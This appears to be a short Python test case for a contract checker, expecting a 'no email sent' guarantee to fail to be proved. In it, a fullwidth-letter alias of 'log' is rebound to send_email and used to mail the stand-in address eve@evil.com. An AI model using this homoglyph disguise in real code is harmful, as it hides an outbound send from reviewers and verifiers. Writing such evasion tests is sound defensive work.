# not proved: the fullwidth name is the same local name
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    ｌog = send_email
    log("eve@evil.com", "x")
